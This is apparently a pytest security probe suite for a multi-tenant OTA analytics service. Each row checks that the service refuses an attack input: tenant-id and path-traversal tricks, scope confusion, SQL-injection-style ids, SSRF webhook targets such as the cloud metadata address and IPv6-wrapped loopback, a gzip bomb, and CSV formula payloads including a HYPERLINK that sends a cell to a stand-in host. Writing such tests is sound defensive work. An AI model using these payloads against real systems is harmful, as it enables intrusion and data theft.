"""The adversarial probe of issue 32 as a table, against one real worker with two tenants and keys of every scope
(tests/support/probe.py): tenant ids in every encoding, path tricks, scope confusion, revocation, injection and
webhook targets. Each row is one attempt and the answer it must get; docs/security.md lists what was probed."""

from __future__ import annotations

import csv
import gzip
import io
import json
import zlib
from collections.abc import Iterator
from typing import Any

import pytest

from ota_stream.alerts.webhooks import refusal
from ota_stream.storage.client import ClickHouse
from ota_stream.storage.export_sql import TEXT
from ota_stream.storage.queries.event_rows import COLUMNS
from tests.support.diagnosis import group_offsets, kafka_report
from tests.support.keys import SECURED
from tests.support.probe import (
    ACME_CHAT,
    ACME_SHOP,
    GLOBEX,
    Attempt,
    Probed,
    check,
    event,
    metric,
    seeded,
    send,
)
from tests.support.processes import Worker, unique_name, wait_for
from tests.support.worker_api import wait_processed

PROBE_ENV = {**SECURED, "RATE_LIMIT_READ_REQUESTS_PER_SECOND": "0"}
ADOPTION = "/analytics/adoption?days=1"
EXPORT = "/analytics/export?days=1&format=ndjson"
# Texts a spreadsheet would run as formulas (finding 2), in events any app user can send, and two it would not.
FORMULAS = {
    "error_message": '=HYPERLINK("http://x/?"&A1,"click")', "release_notes": "+SUM(A1:A9)", "rollback_reason": "-2+3",
    "cancellation_reason": "@SUM(1,1)", "session_id": "\t=1+1", "model": "\r=1+1", "error_code": "E-1",
    "failure_stage": "'=already quoted",
}  # fmt: skip
RUNNABLE = [text for text in FORMULAS.values() if text[0] in "=+-@\t\r"]
CSV_EXPORT = "/analytics/export?days=1&format=csv&app_id=shop"
# Finding 3: 100 valid events, compressed; a body that inflates to 20 MB; the headers that announce them.
BATCH = b"\n".join(json.dumps(event("acme", "shop", f"{ACME_SHOP}-batch-{i}")).encode() for i in range(100))
BOMB = gzip.compress(b"0" * 20_000_000)
NDJSON, JSON = ("Content-Type", "application/x-ndjson"), ("Content-Type", "application/json")
GZIP = ("Content-Encoding", "gzip")
RULE = {"tenant_id": "acme", "metric": "failure_rate", "threshold": 20, "window_minutes": 10, "min_events": 5,
        "webhook_url": "https://93.184.215.14/hooks/ota"}  # fmt: skip


@pytest.fixture(scope="module")
def probed(kafka: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Probed]:
    directory = tmp_path_factory.mktemp("probe")
    worker = Worker(directory, kafka, unique_name("ota-events"), unique_name("ota-group"), env=PROBE_ENV)
    worker.start()
    try:
        yield seeded(worker, [event("acme", "shop", f"{ACME_SHOP}-formulas", **FORMULAS)])
    finally:
        worker.stop()


def get(name: str, target: str, key: str | None, status: int = 200, **more: Any) -> Attempt:
    return Attempt(name, "GET", target, key, status, **more)


def post(name: str, target: str, key: str | None, status: int, body: Any, **more: Any) -> Attempt:
    return Attempt(name, "POST", target, key, status, body, **more)


# fmt: off
TENANT_IDS = [
    get("own tenant, left out", ADOPTION, "acme-read"),
    get("own tenant, named", f"{ADOPTION}&tenant_id=acme", "acme-read"),
    get("another tenant", f"{ADOPTION}&tenant_id=globex", "acme-read", 403),
    get("another tenant, upper case", f"{ADOPTION}&tenant_id=GLOBEX", "acme-read", 403),
    get("another tenant, percent-encoded", f"{ADOPTION}&tenant_id=%67lobex", "acme-read", 403),
    get("own tenant and a NUL", f"{ADOPTION}&tenant_id=acme%00", "acme-read", 403),
    get("own tenant, then another", f"{ADOPTION}&tenant_id=acme&tenant_id=globex", "acme-read", 403),
    get("own tenant twice", f"{ADOPTION}&tenant_id=acme&tenant_id=acme", "acme-read", 422),
    get("empty tenant", f"{ADOPTION}&tenant_id=", "acme-read", 403),
    get("wildcard tenant", f"{ADOPTION}&tenant_id=*", "acme-read", 403),
    get("array-style name", f"{ADOPTION}&tenant_id[]=globex", "acme-read", 422),
    get("upper-case name", f"{ADOPTION}&TENANT_ID=globex", "acme-read", 422),
    get("the bootstrap key reads nothing", f"{ADOPTION}&tenant_id=acme", "bootstrap", 403),
    get("export of own tenant", EXPORT, "acme-read", present=(ACME_SHOP, ACME_CHAT)),
    get("export of another tenant", f"{EXPORT}&tenant_id=globex", "acme-read", 403),
    get("the other tenant's export", EXPORT, "globex-read", absent=(ACME_SHOP,), present=(GLOBEX,)),
    get("another tenant's device", f"/analytics/devices/{GLOBEX}-0/events?days=1", "acme-read"),
    get("apps of own tenant", "/analytics/apps?days=1", "acme-read", present=('"chat"',)),
]
PATHS = [
    get("live of own app", "/live/acme/mobile/shop/windows", "acme-read", present=("update_installed",)),
    get("live of another tenant", "/live/globex/mobile/shop/windows", "acme-read", 403),
    get("live, percent-encoded tenant", "/live/%67lobex/mobile/shop/now", "acme-read", 403),
    get("live, dot segments", "/live/acme/../globex/mobile/shop/now", "acme-read", 403),
    get("live, encoded slashes", "/live/globex%2Fmobile%2Fshop/x/y/now", "acme-read", 404),
    get("live, encoded dot segments", "/live/acme/mobile/..%2F..%2F..%2Fglobex%2Fmobile%2Fshop/now", "acme-read", 404),
    get("live, encoded dot segments first", "/live/acme/..%2F..%2Fglobex/mobile/shop/now", "acme-read", 404),
    get("live, double slash", "//live/globex/mobile/shop/now", "acme-read", 404),
    get("analytics, trailing slash", "/analytics/adoption/", "acme-read", 404),
    get("admin by dot segments", "/analytics/../admin/keys?tenant_id=globex", "acme-read", 403),
    Attempt("key id with dot segments", "DELETE", "/admin/keys/..%2F..%2Fadmin", "acme-admin", 404),
]
SCOPES = [
    get("no key", ADOPTION, None, 401),
    get("revoked key", ADOPTION, "acme-revoked", 401),
    get("revoked admin key", "/admin/keys", "acme-revoked", 401),
    get("key in X-API-Key", ADOPTION, "acme-read", key_header="X-API-Key"),
    get("ingest key reads", ADOPTION, "acme-ingest", 403),
    get("ingest key administers", "/admin/keys", "acme-ingest", 403),
    post("read key administers", "/admin/keys", "acme-read", 403, {"tenant_id": "acme", "scopes": ["read"]}),
    post("read key ingests", "/events", "acme-read", 403, {"org_id": "mobile", "app_id": "shop"}),
    get("admin key reads", ADOPTION, "acme-admin", 403),
    post("admin key makes another tenant's key", "/admin/keys", "acme-admin", 403,
         {"tenant_id": "globex", "scopes": ["admin"]}),
    get("admin key lists another tenant", "/admin/keys?tenant_id=globex", "acme-admin", 403),
    get("admin key lists its own tenant", "/admin/keys", "acme-admin", absent=('"globex"',)),
    Attempt("admin key revokes another tenant's key", "DELETE", "/admin/keys/{globex-read}", "acme-admin", 403),
    post("admin key makes another tenant's rule", "/admin/alerts", "acme-admin", 403, {**RULE, "tenant_id": "globex"}),
    post("ingest key writes another tenant", "/events", "acme-ingest", 403, event("globex", "shop", "d")),
]
INJECTION = [
    get("quote in an app id", f"{ADOPTION}&app_id=shop'%20OR%201=1--", "acme-read", 422),
    get("quote in a version", "/analytics/releases/2.0.0'%20OR%20'1'='1/health?days=1", "acme-read"),
    get("quote in a device id", "/analytics/devices/x'%20OR%20''='/events?days=1", "acme-read"),
    post("webhook to loopback", "/admin/alerts", "acme-admin", 422, {**RULE, "webhook_url": "http://127.0.0.1/"}),
    post("webhook to cloud metadata", "/admin/alerts", "acme-admin", 422,
         {**RULE, "webhook_url": "http://169.254.169.254/latest/meta-data/"}),
]
NARROWING = [  # keys narrowed to acme/mobile/shop: finding 1
    get("narrowed read, export", EXPORT, "shop-read", absent=(GLOBEX, ACME_CHAT), present=(ACME_SHOP,)),
    get("narrowed read, export of its app", f"{EXPORT}&org_id=mobile&app_id=shop", "shop-read",
        absent=(GLOBEX, ACME_CHAT), present=(ACME_SHOP,)),
    get("narrowed read, another app", f"{EXPORT}&app_id=chat", "shop-read", 403),
    get("narrowed read, another org", f"{ADOPTION}&org_id=web", "shop-read", 403),
    get("narrowed read, its app then another", f"{ADOPTION}&app_id=shop&app_id=chat", "shop-read", 403),
    get("narrowed read, apps", "/analytics/apps?days=1", "shop-read", absent=('"chat"',), present=('"shop"',)),
    get("narrowed read, another app's device", f"/analytics/devices/{ACME_CHAT}-0/events?days=1", "shop-read",
        absent=(ACME_CHAT,)),
    get("narrowed read, another app's live windows", "/live/acme/mobile/chat/windows", "shop-read", 403),
    get("narrowed read, another org's live window", "/live/acme/web/shop/now", "shop-read", 403),
    get("narrowed read, its app's live windows", "/live/acme/mobile/shop/windows", "shop-read"),
    post("narrowed ingest, another app", "/events", "shop-ingest", 403, event("acme", "chat", "x")),
    post("narrowed admin, a key for the tenant", "/admin/keys", "shop-admin", 201,
         {"tenant_id": "acme", "scopes": ["admin", "read"]}, present=('"org_id":"mobile"', '"app_id":"shop"')),
    post("narrowed admin, a key for another app", "/admin/keys", "shop-admin", 403,
         {"tenant_id": "acme", "scopes": ["read"], "org_id": "mobile", "app_id": "chat"}),
    post("narrowed admin, a key for another org", "/admin/keys", "shop-admin", 403,
         {"tenant_id": "acme", "scopes": ["read"], "org_id": "web"}),
    get("narrowed admin, listing", "/admin/keys", "shop-admin", absent=("{acme-read}", "{acme-admin}"),
        present=("{shop-read}",)),
    Attempt("narrowed admin revokes a tenant key", "DELETE", "/admin/keys/{acme-read}", "shop-admin", 403),
    post("narrowed admin, a rule for the tenant", "/admin/alerts", "shop-admin", 201, RULE,
         present=('"org_id":"mobile"', '"app_id":"shop"')),
    post("narrowed admin, a rule for another app", "/admin/alerts", "shop-admin", 403,
         {**RULE, "org_id": "mobile", "app_id": "chat"}),
]
CSV = [  # finding 2: each runnable text in a CSV cell starts with an apostrophe
    get("csv export, formulas", CSV_EXPORT, "acme-read", absent=tuple(f'"{text[:4]}' for text in RUNNABLE),
        present=tuple(f'"\'{text[:4]}' for text in RUNNABLE)),
]
ENCODED = [  # finding 3: refused whole before a byte is read, publishing nothing
    post("gzip batch", "/events/batch", "acme-ingest", 415, gzip.compress(BATCH), headers=(NDJSON, GZIP)),
    post("gzip bomb", "/events/batch", "acme-ingest", 415, BOMB, headers=(NDJSON, GZIP)),
    post("deflate event", "/events", "acme-ingest", 415, zlib.compress(BATCH.split(b"\n")[0]),
         headers=(JSON, ("Content-Encoding", "deflate"))),
    post("br event", "/events", "acme-ingest", 415, BATCH.split(b"\n")[0], headers=(JSON, ("Content-Encoding", "br"))),
    post("identity and gzip", "/events", "acme-ingest", 415, gzip.compress(BATCH.split(b"\n")[0]),
         headers=(JSON, ("Content-Encoding", "identity"), GZIP)),
    post("gzip key request", "/admin/keys", "bootstrap", 415,
         gzip.compress(b'{"tenant_id": "acme", "scopes": ["read"]}'), headers=(JSON, GZIP)),
    post("gzip rule", "/admin/alerts", "acme-admin", 415, gzip.compress(json.dumps(RULE).encode()),
         headers=(JSON, GZIP)),
    post("gzip capgo stats", "/capgo/stats?org_id=mobile", "acme-ingest", 415, gzip.compress(b"{}"),
         headers=(JSON, GZIP)),
]
TOPOLOGY = ("127.0.0.1", "ota-events-", "changelog", "alert-state")
FAUST = [  # finding 4: Faust's own routes, with and without a key, and paths that are no route at all
    *(get(f"faust {path} with {key}", path, key, 404, absent=TOPOLOGY) for key in (None, "acme-admin") for path in (
        "/router/", "/router/topics", "/router/nope/", "/router/live-windows/acme/", "/table/",
        "/table/alert-state/", "/", "/graph/", "/stats/", "/performance/")),
    get("no route", "/nope", None, 404),
    get("no route, deeper", "/admin-keys/../nope", None, 404),
]
SECOND_KEY, SECOND_ADMIN = (("Authorization", "Bearer <globex-read>"),), (("Authorization", "Bearer <globex-admin>"),)
TWICE = [  # finding 6: two keys on one request are refused everywhere, as is a parameter given twice
    *(get(f"two Authorization headers, {path}", path, "acme-read", 401, headers=SECOND_KEY)
      for path in ("/analytics/apps?days=1", "/live/acme/mobile/shop/now", EXPORT)),
    get("two X-API-Key headers", "/analytics/apps?days=1", "acme-read", 401, key_header="X-API-Key",
        headers=(("X-API-Key", "<globex-read>"),)),
    get("two keys, admin listing", "/admin/keys", "acme-admin", 401, headers=SECOND_ADMIN),
    post("two keys, admin key", "/admin/keys", "acme-admin", 401, {"tenant_id": "globex", "scopes": ["read"]},
         headers=SECOND_ADMIN),
    post("two keys, event", "/events", "acme-ingest", 401, event("acme", "shop", "d"),
         headers=(("Authorization", "Bearer <globex-ingest>"),)),
    get("tenant twice, key listing", "/admin/keys?tenant_id=acme&tenant_id=globex", "bootstrap", 422),
    get("own tenant twice, key listing", "/admin/keys?tenant_id=acme&tenant_id=acme", "acme-admin", 422),
    get("tenant twice, rule listing", "/admin/alerts?tenant_id=acme&tenant_id=globex", "bootstrap", 422),
    get("last twice, live windows", "/live/acme/mobile/shop/windows?last=1&last=61", "acme-read", 422),
]
WRAPPED = {  # finding 8: IPv6 addresses that lead to a refused IPv4 address
    "2002:7f00:1::1": "127.0.0.1", "2002:a9fe:a9fe::1": "169.254.169.254", "2002:a00:1::1": "10.0.0.1",
    "64:ff9b::7f00:1": "127.0.0.1", "::127.0.0.1": "127.0.0.1", "::ffff:10.0.0.1": "10.0.0.1",
    "2001:0:4136:e378:8000:63bf:80ff:fffe": "127.0.0.1",  # Teredo: the client is the last 32 bits, inverted
}  # fmt: skip
WEBHOOKS = [
    *(post(f"webhook to {address}", "/admin/alerts", "acme-admin", 422, {**RULE, "webhook_url": f"http://[{address}]:6400/"})
      for address in WRAPPED),
    post("webhook to a public 6to4 address", "/admin/alerts", "acme-admin", 201,
         {**RULE, "webhook_url": "http://[2002:808:808::1]/hooks"}),
]
OPEN = [
    get("health", "/health", None),
    get("metrics", "/metrics", None, absent=(GLOBEX, ACME_SHOP)),
    get("openapi", "/openapi.json", None),
]
# fmt: on
ROWS = TENANT_IDS + PATHS + SCOPES + INJECTION + NARROWING + CSV + ENCODED + FAUST + TWICE + WEBHOOKS + OPEN


@pytest.mark.parametrize("attempt", ROWS, ids=[row.name for row in ROWS])
def test_the_probe(probed: Probed, attempt: Attempt) -> None:
    check(probed, attempt)


def test_no_key_in_the_log(probed: Probed) -> None:
    assert probed.worker.log_path is not None
    log = probed.worker.log_path.read_text()
    assert '"audit": true' in log  # the worker logged the requests
    assert [name for name, key in probed.keys.items() if key in log] == []


READS = [
    "/analytics/adoption", "/analytics/versions", "/analytics/active-devices", "/analytics/failures",
    "/analytics/performance", "/analytics/releases", "/analytics/releases/2.0.0/health",
    "/analytics/failures/messages", f"/analytics/devices/{ACME_SHOP}-0/events", "/analytics/apps",
    "/analytics/export?format=ndjson",
]  # fmt: skip


def test_a_narrowed_key_reads_what_its_tenant_key_reads_of_its_app(probed: Probed) -> None:
    """Every read route answers a key narrowed to acme/mobile/shop exactly as the tenant's key answers for that
    app, and not as it answers for the whole tenant."""

    def read(target: str, key: str) -> str:
        answer = send(probed, Attempt("read", "GET", target, key))
        assert answer.status == 200, (target, answer.text[:300])
        return answer.text

    for route in READS:
        target = f"{route}{'&' if '?' in route else '?'}days=1"
        narrowed = read(target, "shop-read")
        assert narrowed == read(f"{target}&org_id=mobile&app_id=shop", "acme-read"), route
        if route.startswith(("/analytics/export", "/analytics/apps", "/analytics/active-devices")):
            assert narrowed != read(target, "acme-read"), route


def test_a_narrowed_admin_key_sees_and_deletes_only_rules_within_its_reach(probed: Probed) -> None:
    tenant_wide = check(probed, post("tenant rule", "/admin/alerts", "acme-admin", 201, RULE)).json()["data"]
    shop = check(probed, post("shop rule", "/admin/alerts", "shop-admin", 201, RULE)).json()["data"]
    listed = check(probed, get("shop rules", "/admin/alerts", "shop-admin")).text
    assert shop["rule_id"] in listed and tenant_wide["rule_id"] not in listed
    delete = f"/admin/alerts/{tenant_wide['rule_id']}"
    check(probed, Attempt("delete a tenant rule", "DELETE", delete, "shop-admin", 403))
    check(probed, Attempt("delete it with a tenant key", "DELETE", delete, "acme-admin", 200))


def test_csv_cells_never_start_a_formula_and_other_formats_keep_the_text(probed: Probed) -> None:
    """A text that starts with = + - @ tab or CR gets an apostrophe in front in CSV, nothing else changes, and NDJSON
    holds every value as sent."""
    csv_answer = check(probed, get("csv", CSV_EXPORT, "acme-read"))
    [csv_row] = [
        r for r in csv.DictReader(io.StringIO(csv_answer.text)) if r["device_id"].endswith("formulas")
    ]
    ndjson = check(probed, get("ndjson", CSV_EXPORT.replace("csv", "ndjson"), "acme-read"))
    [row] = [r for r in map(json.loads, ndjson.text.splitlines()) if r["device_id"].endswith("formulas")]
    for name, value in FORMULAS.items():
        assert row[name] == value, name
        assert csv_row[name] == (f"'{value}" if value in RUNNABLE else value), name
    assert csv_row["org_id"] == "mobile" and csv_row["current_version"] == "1.0.0"


def test_every_text_column_of_the_raw_table_is_guarded_in_csv(ch: ClickHouse) -> None:
    """The CSV guard covers each String column that an export reads, so that a new one cannot slip past it."""
    types = dict(ch.query_rows("SELECT name, type FROM system.columns WHERE database = currentDatabase() "
                               "AND table = 'ota_events_raw'"))  # fmt: skip
    strings = {
        name for name, column in COLUMNS if "String" in types[column] and not types[column].startswith("Map")
    }
    assert strings == TEXT


def test_encoded_bodies_publish_nothing_and_name_the_header(probed: Probed) -> None:
    """Each encoded body is a 415 naming Content-Encoding, with Accept-Encoding: identity, and the events topic
    holds nothing more; the same batch sent plain is accepted whole, and the sink commits it."""
    before = group_offsets(probed.worker)
    for attempt in ENCODED:
        answer = check(probed, attempt)
        assert answer.headers["Accept-Encoding"] == "identity"
        assert [d["field"] for d in answer.json()["error"]["details"]] == ["Content-Encoding"]
    assert group_offsets(probed.worker) == before
    plain = check(probed, post("plain batch", "/events/batch", "acme-ingest", 202, BATCH, headers=(NDJSON,)))
    assert plain.json() == {"accepted": 100, "rejected": []}
    assert sum(end for _, end, _ in group_offsets(probed.worker)) > sum(end for _, end, _ in before)
    wait_processed(probed.worker, len(probed.sent) + 100)

    def committed() -> bool:
        return all(end == (done or 0) for _, end, done in group_offsets(probed.worker))

    wait_for(
        committed, 60, "the sink to commit the plain batch", diagnose=lambda: kafka_report(probed.worker)
    )


def test_no_route_moves_the_5xx_count(probed: Probed) -> None:
    """Faust's routes answered a 500 with a traceback for an unknown table, so anyone could trip the 5xx alert."""
    before = metric(probed, "ota_http_responses_total", status_class="5xx")
    for attempt in FAUST:
        check(probed, attempt)
    assert metric(probed, "ota_http_responses_total", status_class="5xx") == before


def test_a_key_in_an_overlong_request_line_is_not_logged(probed: Probed) -> None:
    """aiohttp refuses a request line over 8 KiB and logs its LineTooLong with the start of the line, where a
    /c/{key}/... path puts the key (finding 5)."""
    log = probed.worker.log_path
    assert log is not None
    key = probed.keys["shop-ingest"]
    target = f"/c/{key}/capgo/stats?pad={'x' * 9000}"
    assert send(probed, post("overlong", target, None, 400, {})).status == 400
    wait_for(lambda: "LineTooLong" in log.read_text(), 30, "the refusal to be logged")
    logged = [line for line in log.read_text().splitlines() if "LineTooLong" in line]
    assert logged and all(key not in line and "ota_***" in line for line in logged), logged[-1][:600]


@pytest.mark.parametrize("address", list(WRAPPED))
def test_an_ipv6_address_is_refused_for_the_ipv4_address_it_wraps(address: str) -> None:
    reason = refusal(address)
    assert reason is not None and WRAPPED[address] in reason, reason
    assert refusal(WRAPPED[address]) is not None


def test_a_revoked_key_is_refused_by_the_next_request(probed: Probed) -> None:
    """Revocation timing: the answer to DELETE comes once this worker has applied it, so no request after it, on
    any route the key could reach, gets through."""
    made = check(
        probed, post("make", "/admin/keys", "bootstrap", 201, {"tenant_id": "acme", "scopes": ["read"]})
    )
    key = made.json()["data"]
    probed.keys["fresh"], probed.records["fresh"] = key["key"], key
    check(probed, get("before", ADOPTION, "fresh"))
    check(probed, Attempt("revoke", "DELETE", "/admin/keys/{fresh}", "bootstrap", 200))
    for route in (ADOPTION, EXPORT, "/live/acme/mobile/shop/now", "/analytics/apps"):
        check(probed, get("after", route, "fresh", 401))
